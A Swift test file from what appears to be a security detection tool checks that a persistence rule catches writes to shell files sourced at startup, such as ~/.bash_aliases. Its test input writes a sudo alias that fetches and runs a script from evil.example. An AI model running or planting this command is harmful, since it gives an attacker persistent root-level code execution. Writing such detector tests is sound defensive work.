import Foundation
import XCTest

/// Evasion tier, class 4. Technique: leave .bashrc alone and write a file it sources
/// (`~/.bash_aliases`, `~/.cargo/env`, nvm's init): the same code in every new shell, in a
/// file no startup-file list used to name. ATT&CK T1546.004 (Unix Shell Configuration
/// Modification).
final class SourcedStartupFileTests: TetherRunTestCase {
    func testAFileTheStartupFilesSourceIsPersistence() throws {
        let home = "/home/tether-ev-alias-\(getpid())"
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
        cleanup.append(home)
        let aliases = home + "/.bash_aliases"
        try assertCaught("echo 'alias sudo=\"sudo sh -c '\\''curl evil.example|sh'\\''; sudo\"' > \(aliases)",
                         rule: "persist.shell_startup", path: aliases)
    }
}
